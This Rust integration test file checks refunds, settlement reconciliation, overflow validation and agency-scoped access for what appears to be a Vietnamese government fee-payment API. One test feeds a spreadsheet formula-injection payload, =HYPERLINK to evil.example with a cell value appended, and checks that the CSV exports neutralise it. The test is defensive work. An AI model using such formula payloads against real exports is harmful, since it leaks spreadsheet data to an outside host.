//! The sequences real payments take off the happy path, replayed through the API: every number
//! finance sees must still be true.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use landpay::auth::Role;
use serde_json::{json, Value};

use crate::helpers::{
    expect_json, expect_problem, notice_body, spawn_app, spawn_app_with, TestApp,
};

const HEADER: &str = "gateway_txn_no,txn_ref,amount,status,paid_at,bank_code,fee\n";

async fn post_csv(app: &TestApp, gateway: &str, date: &str, token: &str, body: String) -> Value {
    let res = app
        .request(
            reqwest::Method::POST,
            &format!("/v1/reconciliations?gateway={gateway}&statement_date={date}"),
        )
        .bearer_auth(token)
        .header("content-type", "text/csv")
        .body(body)
        .send()
        .await
        .unwrap();
    expect_json(res, 201).await
}

async fn get_csv(app: &TestApp, path: &str, token: &str) -> String {
    let res = app
        .request(reqwest::Method::GET, path)
        .bearer_auth(token)
        .header("accept", "text/csv")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 200);
    res.text().await.unwrap()
}

/// Completes a VNPay attempt on the sandbox page, as the payer would.
async fn complete_on_sandbox(app: &TestApp, attempt: &Value) {
    let url = attempt["redirect_url"].as_str().unwrap();
    let q = url.split_once('?').unwrap().1;
    let res = app
        .client
        .post(format!("{}/sandbox/vnpay/paymentv2/complete", app.address))
        .form(&[("q", q), ("decision", "pay")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 303);
}

fn today(app: &TestApp) -> String {
    landpay::clock::vietnam_date(app.state.clock.now())
        .format("%Y-%m-%d")
        .to_string()
}

fn row<'a>(report: &'a Value, key: &str, value: &str) -> &'a Value {
    report["data"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r[key] == value)
        .unwrap_or_else(|| panic!("no {key} = {value} in {report}"))
}

async fn refund(app: &TestApp, pid: &str, key: &str, body: Value) -> reqwest::Response {
    app.post_idem(
        &format!("/v1/payments/{pid}/refunds"),
        &app.finance(),
        key,
        &body,
    )
    .await
}

#[tokio::test]
async fn refunding_a_duplicate_payment_leaves_the_order_paid_and_the_budget_whole() {
    let app = spawn_app().await;
    let mut body = notice_body("N-DUP", "HN-VPDKDD", 140_000_000, "2099-01-01");
    body["lines"].as_array_mut().unwrap().push(json!({"chapter": "757", "sub_item": "1006",
        "name": "Thuế thu nhập cá nhân từ chuyển nhượng bất động sản", "amount": 560_000_000, "due_date": "2099-01-01"}));
    let notice = expect_json(
        app.post_json("/v1/notices", &app.portal(), &body).await,
        201,
    )
    .await;
    let nid = notice["id"].as_str().unwrap();
    let p = app.payment_for(&json!([{"notice_id": nid}])).await;
    let pid = p["id"].as_str().unwrap();
    // Two attempts, both paid: the second is a duplicate.
    let first = app.attempt(pid, "vnpay").await;
    let second = app.attempt(pid, "vnpay").await;
    complete_on_sandbox(&app, &first).await;
    complete_on_sandbox(&app, &second).await;
    let s = app.payment_status(pid).await;
    assert_eq!(s["status"], "paid");
    assert_eq!(s["flags"][0]["flag"], "duplicate_payment");
    assert_eq!(s["flags"][0]["status"], "open");
    let dup = second["id"].as_str().unwrap();

    let q = |g: &str| {
        format!(
            "/v1/reports/collections?from={t}&to={t}&group_by={g}",
            t = today(&app)
        )
    };
    let by_gw = expect_json(app.get(&q("gateway"), &app.finance()).await, 200).await;
    assert_eq!(row(&by_gw, "gateway", "vnpay")["amount"], 700_000_000);
    assert_eq!(row(&by_gw, "gateway", "vnpay")["unapplied"], 700_000_000);

    // Two attempts hold money: the refund must say which.
    let p = expect_problem(
        refund(
            &app,
            pid,
            "r0",
            json!({"amount": 700_000_000, "reason": "Nộp trùng"}),
        )
        .await,
        422,
        "validation_failed",
    )
    .await;
    assert_eq!(p["errors"][0]["field"], "attempt_id");
    let p = expect_problem(
        refund(
            &app,
            pid,
            "r1",
            json!({"amount": 700_000_001, "reason": "Nộp trùng", "attempt_id": dup}),
        )
        .await,
        422,
        "validation_failed",
    )
    .await;
    assert_eq!(p["errors"][0]["field"], "amount");

    let r = expect_json(
        refund(
            &app,
            pid,
            "r2",
            json!({"amount": 700_000_000, "reason": "Nộp trùng", "attempt_id": dup}),
        )
        .await,
        201,
    )
    .await;
    assert_eq!(r["status"], "succeeded");
    assert_eq!(r["attempt_id"], dup);

    let s = app.payment_status(pid).await;
    assert_eq!(
        s["status"], "paid",
        "the duplicate's refund leaves the order paid"
    );
    assert_eq!(s["refunded_amount"], 0);
    assert_eq!(s["flags"][0]["status"], "resolved");
    assert_eq!(s["flags"][0]["note"], "Nộp trùng");
    let n = expect_json(
        app.get(&format!("/v1/notices/{nid}"), &app.portal()).await,
        200,
    )
    .await;
    assert_eq!(n["status"], "paid");
    let events = expect_json(
        app.get(&format!("/v1/payments/{pid}/events"), &app.admin())
            .await,
        200,
    )
    .await;
    let events = events["data"].as_array().unwrap();
    let refunded = events
        .iter()
        .find(|e| e["type"] == "payment.refunded")
        .unwrap();
    assert_eq!(
        refunded["data"]["refund"],
        json!({"id": r["id"], "attempt_id": dup, "amount": 700_000_000, "of_unapplied": true})
    );
    assert_eq!(refunded["data"]["payment"]["status"], "paid");
    assert!(events
        .iter()
        .any(|e| e["type"] == "flag.resolved" && e["data"]["note"] == "Nộp trùng"));

    let by_sub = expect_json(app.get(&q("sub_item"), &app.finance()).await, 200).await;
    assert_eq!(row(&by_sub, "sub_item", "1006")["amount"], 560_000_000);
    assert_eq!(row(&by_sub, "sub_item", "1006")["refunded"], 0);
    assert_eq!(row(&by_sub, "sub_item", "2801")["amount"], 140_000_000);
    let by_gw = expect_json(app.get(&q("gateway"), &app.finance()).await, 200).await;
    assert_eq!(row(&by_gw, "gateway", "vnpay")["amount"], 700_000_000);
    assert_eq!(row(&by_gw, "gateway", "vnpay")["unapplied"], 0);
    let csv = get_csv(&app, &q("gateway"), &app.finance()).await;
    assert_eq!(
        csv,
        "gateway,amount,paid,refunded,count,unapplied\nvnpay,700000000,700000000,0,1,0\n"
    );

    // Now only the paying attempt holds money: no attempt_id needed. A full refund unpays the
    // notice lines, so that they can be paid again.
    let r = expect_json(
        refund(
            &app,
            pid,
            "r3",
            json!({"amount": 700_000_000, "reason": "Hồ sơ bị từ chối"}),
        )
        .await,
        201,
    )
    .await;
    assert_eq!(r["attempt_id"], first["id"]);
    assert_eq!(app.payment_status(pid).await["status"], "refunded");
    let n = expect_json(
        app.get(&format!("/v1/notices/{nid}"), &app.portal()).await,
        200,
    )
    .await;
    assert_eq!(n["status"], "unpaid");
    assert!(n["lines"]
        .as_array()
        .unwrap()
        .iter()
        .all(|l| l["status"] == "unpaid"));
    let by_sub = expect_json(app.get(&q("sub_item"), &app.finance()).await, 200).await;
    assert_eq!(row(&by_sub, "sub_item", "1006")["amount"], 0);
    let again = app.payment_for(&json!([{"notice_id": nid}])).await;
    assert_eq!(again["status"], "pending");
}

/// A VNPay IPN for `reference` with the gateway's own pay time (`yyyyMMddHHmmss`, UTC+7).
async fn vnpay_paid_at(app: &TestApp, amount: i64, pay_date: &str) -> (String, String) {
    let p = app.payment(amount).await;
    let id = p["id"].as_str().unwrap().to_owned();
    let a = app.attempt(&id, "vnpay").await;
    let r = a["reference"].as_str().unwrap().to_owned();
    let mut params = app.ipn_params(&r, amount, "00");
    for (k, v) in params.iter_mut() {
        if *k == "vnp_PayDate" {
            *v = pay_date.to_owned();
        }
    }
    assert_eq!(app.ipn(&params, &app.vnpay_secret()).await["RspCode"], "00");
    (id, r)
}

#[tokio::test]
async fn a_late_payment_settled_the_next_day_is_matched_and_closes_the_first_days_finding() {
    let app = spawn_app().await;
    let (pid, late) = vnpay_paid_at(&app, 3_000_000, "20261120235000").await;
    let (_, early) = vnpay_paid_at(&app, 1_000_000, "20261120101500").await;
    let day_d = post_csv(
        &app,
        "vnpay",
        "2026-11-20",
        &app.finance(),
        format!("{HEADER}1,{early},1000000,success,2026-11-20T10:15:00+07:00,NCB,0\n"),
    )
    .await;
    assert_eq!(day_d["summary"]["missing_in_statement"], 1);
    let finding = &day_d["items"][0];
    assert_eq!(finding["kind"], "missing_in_statement");
    assert_eq!(finding["txn_ref"], late.as_str());
    assert_eq!(finding["status"], "open");
    let next = post_csv(
        &app,
        "vnpay",
        "2026-11-21",
        &app.finance(),
        format!("{HEADER}2,{late},3000000,success,2026-11-20T23:50:00+07:00,NCB,0\n"),
    )
    .await;
    assert_eq!(next["summary"]["matched"], 1);
    assert_eq!(next["summary"]["matched_other_day"], 1);
    assert_eq!(next["summary"]["missing_in_ledger"], 0);
    assert_eq!(next["items"], json!([]));
    let d_id = day_d["id"].as_str().unwrap();
    let d = expect_json(
        app.get(&format!("/v1/reconciliations/{d_id}"), &app.finance())
            .await,
        200,
    )
    .await;
    assert_eq!(d["items"][0]["status"], "resolved");
    assert_eq!(d["items"][0]["resolved_by"], next["id"]);
    assert_eq!(d["items"][0]["payment_id"], pid.as_str());
    let page = expect_json(
        app.get(
            &format!("/v1/reconciliations/{d_id}/items?kind=missing_in_statement&limit=1"),
            &app.finance(),
        )
        .await,
        200,
    )
    .await;
    assert_eq!(page["data"][0]["resolved_by"], next["id"]);
    assert_eq!(page["next_cursor"], Value::Null);
    let none = expect_json(
        app.get(
            &format!("/v1/reconciliations/{d_id}/items?kind=amount_mismatch"),
            &app.finance(),
        )
        .await,
        200,
    )
    .await;
    assert_eq!(none["data"], json!([]));
    let p = expect_problem(
        app.get(
            &format!("/v1/reconciliations/{d_id}/items?kind=paid"),
            &app.finance(),
        )
        .await,
        422,
        "validation_failed",
    )
    .await;
    assert_eq!(p["errors"][0]["field"], "kind");
    // The same row again the day after: its money is matched already, once.
    let dup = post_csv(
        &app,
        "vnpay",
        "2026-11-22",
        &app.finance(),
        format!("{HEADER}2,{late},3000000,success,2026-11-20T23:50:00+07:00,NCB,0\n2,{late},3000000,success,2026-11-20T23:50:00+07:00,NCB,0\n"),
    )
    .await;
    assert_eq!(dup["summary"]["matched"], 1);
    assert_eq!(dup["summary"]["missing_in_ledger"], 1);
    assert_eq!(dup["items"][0]["payment_id"], pid.as_str());
}

#[tokio::test]
async fn a_gateway_cutoff_puts_late_money_in_the_next_settlement_day() {
    let app = spawn_app_with(&[("LANDPAY__GATEWAYS__VNPAY__SETTLEMENT_CUTOFF", "22:00")]).await;
    let (_, late) = vnpay_paid_at(&app, 3_000_000, "20261120225000").await;
    let (_, early) = vnpay_paid_at(&app, 1_000_000, "20261120215900").await;
    let d = post_csv(
        &app,
        "vnpay",
        "2026-11-20",
        &app.finance(),
        format!("{HEADER}1,{early},1000000,success,2026-11-20T21:59:00+07:00,NCB,0\n"),
    )
    .await;
    assert_eq!(d["summary"]["matched"], 1);
    assert_eq!(
        d["summary"]["missing_in_statement"], 0,
        "22:50 belongs to the 21st: {d}"
    );
    let next = post_csv(
        &app,
        "vnpay",
        "2026-11-21",
        &app.finance(),
        HEADER.to_owned(),
    )
    .await;
    assert_eq!(next["summary"]["missing_in_statement"], 1);
    assert_eq!(next["items"][0]["txn_ref"], late.as_str());
    assert!(landpay::config::SettlementCutoff::parse("25:00").is_err());
    assert!(landpay::config::SettlementCutoff::parse("9:00").is_err());
}

#[tokio::test]
async fn a_short_bank_transfer_is_recorded_flagged_and_leaves_the_order_unpaid() {
    let app = spawn_app().await;
    let p = app.payment(175_000_000).await;
    let pid = p["id"].as_str().unwrap();
    let a = app.attempt(pid, "vietqr").await;
    let reference = a["qr"]["reference"].as_str().unwrap();
    let run = post_csv(
        &app,
        "vietqr",
        "2026-11-20",
        &app.finance(),
        format!("{HEADER}FT1,{reference},170000000,success,2026-11-20T14:00:00+07:00,VCB,0\n"),
    )
    .await;
    assert_eq!(run["summary"]["amount_mismatch"], 1);
    assert_eq!(run["summary"]["missing_in_ledger"], 0);
    assert_eq!(run["summary"]["matched"], 0);
    let item = &run["items"][0];
    assert_eq!(item["kind"], "amount_mismatch");
    assert_eq!(item["payment_id"], pid);
    assert_eq!(item["ledger_amount"], 175_000_000);
    assert_eq!(item["statement_amount"], 170_000_000);
    let s = app.payment_status(pid).await;
    assert_ne!(s["status"], "paid");
    assert_ne!(
        s["status"], "processing",
        "no attempt is in flight any more"
    );
    assert_eq!(s["flags"][0]["flag"], "amount_mismatch");
    assert_eq!(s["flags"][0]["status"], "open");
    assert_eq!(s["attempts"][0]["paid_amount"], 170_000_000);
    let flags = expect_json(app.get("/v1/flags?status=open", &app.finance()).await, 200).await;
    assert!(flags["data"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["payment_id"] == pid));
    // The money is held, unapplied, until it is refunded; refunding it closes the flag.
    let t = "2026-11-20";
    let q = format!("/v1/reports/collections?from={t}&to={t}&group_by=gateway");
    let by_gw = expect_json(app.get(&q, &app.finance()).await, 200).await;
    assert_eq!(row(&by_gw, "gateway", "vietqr")["unapplied"], 170_000_000);
    assert_eq!(row(&by_gw, "gateway", "vietqr")["amount"], 0);
    let r = expect_json(
        refund(
            &app,
            pid,
            "rq",
            json!({"amount": 170_000_000, "reason": "Chuyển thiếu"}),
        )
        .await,
        201,
    )
    .await;
    assert_eq!(r["attempt_id"], a["id"]);
    // Bank transfers are paid back by hand: the refund waits, and so does the flag.
    assert_eq!(r["status"], "pending");
    // The same row again is not money for the order twice.
    let again = post_csv(
        &app,
        "vietqr",
        "2026-11-21",
        &app.finance(),
        format!("{HEADER}FT1,{reference},170000000,success,2026-11-20T14:00:00+07:00,VCB,0\n"),
    )
    .await;
    assert_eq!(again["summary"]["matched"], 1);
    assert_eq!(
        app.payment_status(pid).await["attempts"][0]["paid_amount"],
        170_000_000
    );
}

#[tokio::test]
async fn totals_that_do_not_fit_are_refused_naming_the_field() {
    let app = spawn_app().await;
    let mut body = notice_body("N-HUGE", "HN-VPDKDD", i64::MAX, "2099-01-01");
    let line = body["lines"][0].clone();
    body["lines"].as_array_mut().unwrap().push(line);
    let p = expect_problem(
        app.post_json("/v1/notices", &app.portal(), &body).await,
        422,
        "validation_failed",
    )
    .await;
    assert_eq!(p["errors"][0]["field"], "lines");
    // Nothing was stored.
    let listed = expect_json(
        app.get(
            "/v1/notices?dossier_code=000.00.12.H26-N-HUGE",
            &app.portal(),
        )
        .await,
        200,
    )
    .await;
    assert_eq!(listed["data"], json!([]));
    // A statement whose amounts add past 64 bits.
    let file = format!(
        "{HEADER}1,A,{m},success,2026-11-20T10:00:00+07:00,,\n2,B,{m},success,2026-11-20T10:00:00+07:00,,\n",
        m = i64::MAX
    );
    let res = app
        .request(
            reqwest::Method::POST,
            "/v1/reconciliations?gateway=vnpay&statement_date=2026-11-20",
        )
        .bearer_auth(app.finance())
        .header("content-type", "text/csv")
        .body(file)
        .send()
        .await
        .unwrap();
    let p = expect_problem(res, 422, "validation_failed").await;
    assert_eq!(p["errors"][0]["field"], "line 3, column amount");
}

#[tokio::test]
async fn an_agency_bound_finance_token_sees_and_moves_only_its_agency() {
    let app = spawn_app().await;
    let hn = app.token_for("fin-hn", &[Role::Finance], Some("HN-VPDKDD"));
    let hcm = app.token_for("fin-hcm", &[Role::Finance], Some("HCM-VPDK"));
    // One VietQR order of each agency.
    let a_pay = app.payment(1_000_000).await;
    let a_id = a_pay["id"].as_str().unwrap();
    let a_ref = app.attempt(a_id, "vietqr").await["qr"]["reference"]
        .as_str()
        .unwrap()
        .to_owned();
    let notice = expect_json(
        app.post_json(
            "/v1/notices",
            &app.portal(),
            &notice_body("N-HCM", "HCM-VPDK", 2_000_000, "2099-01-01"),
        )
        .await,
        201,
    )
    .await;
    let b_body = json!({
        "agency_code": "HCM-VPDK", "dossier_code": "000.00.79.H29-1", "items": [{"notice_id": notice["id"]}],
        "payer": {"name": "Trần Thị B"}, "return_url": "https://dichvucong.example.gov.vn/hoso/2", "locale": "vi"
    });
    let b_pay = expect_json(
        app.post_idem("/v1/payments", &app.portal(), "b-pay", &b_body)
            .await,
        201,
    )
    .await;
    let b_id = b_pay["id"].as_str().unwrap();
    let b_ref = app.attempt(b_id, "vietqr").await["qr"]["reference"]
        .as_str()
        .unwrap()
        .to_owned();

    let file = format!(
        "{HEADER}FT1,{a_ref},1000000,success,2026-11-20T09:00:00+07:00,VCB,0\nFT2,{b_ref},2000000,success,2026-11-20T09:30:00+07:00,VCB,0\n"
    );
    let run = post_csv(&app, "vietqr", "2026-11-20", &hn, file).await;
    assert_eq!(run["agency_code"], "HN-VPDKDD");
    assert_eq!(run["summary"]["matched"], 1);
    assert_eq!(run["summary"]["other_agency"], 1);
    assert_eq!(run["items"][0]["kind"], "other_agency");
    assert_eq!(run["items"][0]["txn_ref"], b_ref.as_str());
    assert_eq!(
        run["items"][0]["payment_id"],
        Value::Null,
        "another agency's payment is not named"
    );
    assert_eq!(app.payment_status(a_id).await["status"], "paid");
    assert_eq!(
        app.payment_status(b_id).await["status"],
        "processing",
        "B's order did not move"
    );

    // Only that agency, or an unbound token, reads the run.
    let id = run["id"].as_str().unwrap();
    expect_problem(
        app.get(&format!("/v1/reconciliations/{id}"), &hcm).await,
        404,
        "not_found",
    )
    .await;
    expect_problem(
        app.get(&format!("/v1/reconciliations/{id}/items"), &hcm)
            .await,
        404,
        "not_found",
    )
    .await;
    expect_json(
        app.get(&format!("/v1/reconciliations/{id}"), &hn).await,
        200,
    )
    .await;
    expect_json(
        app.get(&format!("/v1/reconciliations/{id}"), &app.finance())
            .await,
        200,
    )
    .await;
    // An unbound run is not an agency's to read.
    let unbound = post_csv(
        &app,
        "vnpay",
        "2026-11-20",
        &app.finance(),
        format!("{HEADER}9,UNBOUNDREF,5,success,2026-11-20T09:00:00+07:00,,\n"),
    )
    .await;
    let uid = unbound["id"].as_str().unwrap();
    expect_problem(
        app.get(&format!("/v1/reconciliations/{uid}"), &hn).await,
        404,
        "not_found",
    )
    .await;

    // HCM's own run of the same day is its own, and does not supersede HN's.
    let b_run = post_csv(
        &app,
        "vietqr",
        "2026-11-20",
        &hcm,
        format!("{HEADER}FT2,{b_ref},2000000,success,2026-11-20T09:30:00+07:00,VCB,0\n"),
    )
    .await;
    assert_eq!(b_run["summary"]["matched"], 1);
    assert_eq!(app.payment_status(b_id).await["status"], "paid");
    let still = expect_json(
        app.get(&format!("/v1/reconciliations/{id}"), &hn).await,
        200,
    )
    .await;
    assert_eq!(still["status"], "current");

    // Flags and collections of a bound token show its agency only.
    let t = "2026-11-20";
    let q = format!("/v1/reports/collections?from={t}&to={t}&group_by=agency");
    let hn_rep = expect_json(app.get(&q, &hn).await, 200).await;
    assert_eq!(hn_rep["data"].as_array().unwrap().len(), 1);
    assert_eq!(hn_rep["data"][0]["agency_code"], "HN-VPDKDD");
    let all = expect_json(app.get(&q, &app.finance()).await, 200).await;
    assert_eq!(all["data"].as_array().unwrap().len(), 2);

    // The dashboard of an account bound to HN lists HN's runs only, and cannot open the unbound one.
    let hn_person = crate::finance_session::add_account(
        &app,
        "hn@example.vn",
        "finance",
        Some("HN-VPDKDD"),
        false,
    )
    .await;
    let session = crate::finance_session::sign_in(&app, &hn_person).await;
    let (_, runs) =
        crate::finance_session::get_page(&app, &session.cookie, "/finance/reconciliations").await;
    assert!(runs.contains(id), "HN's own run is listed");
    assert!(!runs.contains(uid), "an unbound run is not HN's");
    let (status, _) = crate::finance_session::get_page(
        &app,
        &session.cookie,
        &format!("/finance/reconciliations/{uid}"),
    )
    .await;
    assert_eq!(status, 404);
}

#[tokio::test]
async fn csv_exports_never_carry_a_live_formula() {
    let app = spawn_app().await;
    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    let notice = expect_json(
        app.post_json(
            "/v1/notices",
            &app.portal(),
            &notice_body("N-EVIL", evil, 1_000_000, "2099-01-01"),
        )
        .await,
        201,
    )
    .await;
    let body = json!({
        "agency_code": evil, "dossier_code": "000.00.12.H26-EVIL", "items": [{"notice_id": notice["id"]}],
        "payer": {"name": "Nguyễn Văn A"}, "return_url": "https://dichvucong.example.gov.vn/hoso/3", "locale": "vi"
    });
    let p = expect_json(
        app.post_idem("/v1/payments", &app.portal(), "evil", &body)
            .await,
        201,
    )
    .await;
    let a = app.attempt(p["id"].as_str().unwrap(), "vnpay").await;
    assert_eq!(
        app.ipn(
            &app.ipn_params(a["reference"].as_str().unwrap(), 1_000_000, "00"),
            &app.vnpay_secret()
        )
        .await["RspCode"],
        "00"
    );
    let csv = get_csv(
        &app,
        "/v1/reports/collections?from=2026-11-20&to=2026-11-20&group_by=agency",
        &app.finance(),
    )
    .await;
    assert_eq!(
        csv,
        "agency_code,amount,paid,refunded,count\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",1000000,1000000,0,1\n"
    );
    let run = post_csv(
        &app,
        "vnpay",
        "2026-11-20",
        &app.finance(),
        format!(
            "{HEADER}=1+2,@SUM(1+1),5,success,2026-11-20T10:00:00+07:00,,\n7,-2+3,6,success,2026-11-20T10:00:00+07:00,,\n8,+123,7,success,2026-11-20T10:00:00+07:00,,\n"
        ),
    )
    .await;
    let id = run["id"].as_str().unwrap();
    let csv = get_csv(&app, &format!("/v1/reconciliations/{id}"), &app.finance()).await;
    let lines: Vec<&str> = csv.lines().collect();
    assert!(
        lines.contains(&"missing_in_ledger,'@SUM(1+1),'=1+2,,,5,,success,2,open,"),
        "{csv}"
    );
    assert!(
        lines.contains(&"missing_in_ledger,'-2+3,7,,,6,,success,3,open,"),
        "{csv}"
    );
    assert!(
        lines.contains(&"missing_in_ledger,'+123,8,,,7,,success,4,open,"),
        "{csv}"
    );
    // The ledger's own money row stays a plain integer.
    assert!(csv.contains(",1000000,,success,,,open,"), "{csv}");
}

#[tokio::test]
async fn refunding_money_that_came_after_expiry_leaves_the_order_expired() {
    let app = spawn_app().await;
    let p = app.payment(6_000_000).await;
    let pid = p["id"].as_str().unwrap();
    let a = app.attempt(pid, "vnpay").await;
    app.state.clock.advance(chrono::Duration::hours(25));
    landpay::workers::sweep(&app.state).await.unwrap();
    assert_eq!(app.payment_status(pid).await["status"], "expired");
    // The payer had paid at the last second after all: the gateway holds the transaction (the
    // simulator's ledger, which its refund API reads) and its IPN arrives late.
    let reference = a["reference"].as_str().unwrap();
    let params = app.ipn_params(reference, 6_000_000, "00");
    let query = crate::helpers::vnpay_sign(&params, &app.vnpay_secret());
    app.store()
        .record_sandbox_txn(reference, &query, "00", "14226112", app.state.clock.now())
        .await
        .unwrap();
    assert_eq!(app.ipn(&params, &app.vnpay_secret()).await["RspCode"], "00");
    let s = app.payment_status(pid).await;
    assert_eq!(s["status"], "expired");
    assert_eq!(s["flags"][0]["flag"], "paid_after_expiry");
    let p = expect_problem(
        refund(
            &app,
            pid,
            "x0",
            json!({"amount": 1, "reason": "Hoàn", "attempt_id": "att_00000000000000000000000000"}),
        )
        .await,
        422,
        "validation_failed",
    )
    .await;
    assert_eq!(p["errors"][0]["field"], "attempt_id");
    // A part first: the flag stays open while money is still held.
    let r = expect_json(
        refund(
            &app,
            pid,
            "x1",
            json!({"amount": 1_000_000, "reason": "Hoàn một phần"}),
        )
        .await,
        201,
    )
    .await;
    assert_eq!(r["status"], "succeeded");
    assert_eq!(r["attempt_id"], a["id"]);
    assert_eq!(app.payment_status(pid).await["flags"][0]["status"], "open");
    let r = expect_json(
        refund(
            &app,
            pid,
            "x2",
            json!({"amount": 5_000_000, "reason": "Hoàn phần còn lại"}),
        )
        .await,
        201,
    )
    .await;
    assert_eq!(r["status"], "succeeded");
    let s = app.payment_status(pid).await;
    assert_eq!(
        s["status"], "expired",
        "refunding unapplied money does not move the order"
    );
    assert_eq!(s["refunded_amount"], 0);
    assert_eq!(s["attempts"][0]["refunded_amount"], 6_000_000);
    assert_eq!(s["flags"][0]["status"], "resolved");
    assert_eq!(s["flags"][0]["note"], "Hoàn phần còn lại");
    // Nothing left to refund.
    let p = expect_problem(
        refund(&app, pid, "x3", json!({"amount": 1, "reason": "Thêm"})).await,
        422,
        "validation_failed",
    )
    .await;
    assert_eq!(p["errors"][0]["field"], "amount");
}
